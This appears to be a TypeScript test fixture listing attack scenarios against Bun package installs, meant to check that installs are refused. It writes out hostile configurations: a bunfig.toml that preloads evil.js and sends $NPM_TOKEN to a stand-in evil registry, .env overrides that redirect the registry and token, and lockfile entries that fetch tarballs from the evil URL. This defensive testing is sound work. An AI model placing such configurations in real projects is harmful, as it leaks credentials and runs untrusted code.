// Settings and sources of Bun projects.

import { type Attack, evilCode, type Files, json, manifest, touch, variable } from './attack.ts'

const lock = (packages: object = {}, dependencies: object = {}): string =>
  json({
    lockfileVersion: 0,
    workspaces: { '': { name: 't', ...dependencies } },
    packages,
  })
const project = (more: object = {}): Files => ({
  'package.json': manifest(more),
  'bun.lock': lock(),
})
const plain = ['bun', 'install']

export const bunAttacks: readonly Attack[] = [
  {
    name: 'scripts of the project, and packages that are trusted',
    manager: 'bun',
    files: (scene) =>
      project({
        scripts: { preinstall: touch(scene), postinstall: touch(scene), prepare: touch(scene) },
        trustedDependencies: ['a'],
      }),
    ends: 'either',
    control: plain,
  },
  {
    name: 'a registry with a token in bunfig.toml',
    manager: 'bun',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      'bun.lock': lock(),
      'bunfig.toml': `preload = ["./evil.js"]\n[install]\nregistry = { url = "${scene.evil}", token = "$NPM_TOKEN" }\n`,
      'evil.js': evilCode(scene),
    }),
    ends: 'refused',
  },
  {
    name: 'folders elsewhere in bunfig.toml, and variables in .env',
    manager: 'bun',
    files: (scene) => ({
      ...project(),
      'bunfig.toml': `[install]\nglobalDir = "${scene.neighbor}/global"\nglobalBinDir = "${scene.neighbor}/bin"\n[install.cache]\ndir = "${scene.neighbor}/cache"\n`,
      '.env': `BUN_INSTALL_CACHE_DIR=${scene.neighbor}/cache\nBUN_CONFIG_REGISTRY=${scene.evil}\nBUN_CONFIG_TOKEN=${variable('NPM_TOKEN')}\n`,
    }),
    ends: 'either',
  },
  {
    name: 'a package from another URL',
    manager: 'bun',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      'bun.lock': lock(
        { a: ['a@1.0.0', `${scene.evil}a.tgz`, {}, 'sha512-x'] },
        { dependencies: { a: '1.0.0' } },
      ),
    }),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'packages from git, and from a folder outside',
    manager: 'bun',
    files: () => ({
      'package.json': manifest({ dependencies: { a: 'file:../neighbor', b: 'github:acme/b' } }),
      'bun.lock': lock({
        a: ['a@file:../neighbor', {}],
        b: ['b@github:acme/b#abc', {}, 'acme-b-abc'],
      }),
    }),
    ends: 'refused',
  },
  {
    name: 'a binary lockfile, which is not readable',
    manager: 'bun',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: `${scene.evil}a.tgz` } }),
      'bun.lockb': '#!/usr/bin/env bun\nbun-lockfile-format-v0\n',
    }),
    ends: 'either',
    control: plain,
  },
]
